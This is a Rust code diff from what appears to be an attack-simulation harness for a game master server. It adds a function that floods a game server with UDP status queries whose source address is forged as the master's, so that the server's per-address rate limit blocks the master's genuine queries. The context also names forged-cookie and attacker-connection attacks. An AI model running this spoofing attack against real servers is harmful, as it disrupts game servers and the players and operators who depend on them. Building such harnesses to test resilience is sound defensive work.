@@ -190,6 +190,19 @@ pub fn forged_cookies(server: &Server, per_second: Option<u32>) -> Attack {
     })
 }
 
+/// Queries to a game server in the name of the master, so that a server that limits its answers per address does not answer the
+/// master's own.
+pub fn forged_queries(game: SocketAddr, master: Ipv4Addr, per_second: u32) -> Attack {
+    Attack::start(1, move |_, state| {
+        let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
+        while state.goes_on() {
+            send_from(&socket, master, game, b"\xff\xff\xff\xffgetstatus forged");
+            state.count(true);
+            rest(Duration::from_secs(1) / per_second);
+        }
+    })
+}
+
 /// A connection of an attacker; None if the master does not take it.
 fn attacker_connects(from: Ipv4Addr, to: SocketAddr) -> Option<TcpStream> {
     let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).ok()?;
